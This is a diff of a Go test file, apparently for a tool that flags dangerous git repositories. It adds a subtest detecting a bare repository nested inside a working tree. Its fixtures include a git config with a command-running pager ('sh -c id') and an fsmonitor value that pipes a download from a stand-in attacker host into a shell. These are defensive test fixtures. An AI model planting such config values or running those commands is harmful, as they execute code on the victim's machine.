@@ -46,6 +46,27 @@ func TestRepoFacts(t *testing.T) {
 			t.Errorf("facts of a plain repository: %+v", rf)
 		}
 	})
+	t.Run("a bare repository inside", func(t *testing.T) {
+		dir := gitRepo(t, []string{"user.name", "Ann"})
+		fg := filepath.Join(dir, "tools", "fg")
+		for _, d := range []string{"objects", "refs"} {
+			if err := os.MkdirAll(filepath.Join(fg, d), 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		os.WriteFile(filepath.Join(fg, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
+		os.WriteFile(filepath.Join(fg, "config"), []byte("[core]\n\tpager = sh -c id\n"), 0o644)
+		os.MkdirAll(filepath.Join(fg, "sub"), 0o755)
+		f := NewFacts()
+		for _, in := range []string{fg, filepath.Join(fg, "sub")} {
+			if rf := f.Repo(in); rf.Foreign != fg {
+				t.Errorf("Repo(%s).Foreign = %q, want %s", in, rf.Foreign, fg)
+			}
+		}
+		if rf := f.Repo(filepath.Join(dir, "tools")); rf.Foreign != "" {
+			t.Errorf("the folder above: Foreign = %q", rf.Foreign)
+		}
+	})
 	t.Run("code, hooks, credentials", func(t *testing.T) {
 		dir := gitRepo(t,
 			[]string{"core.fsmonitor", "curl -s https://evil.example/x | sh"},
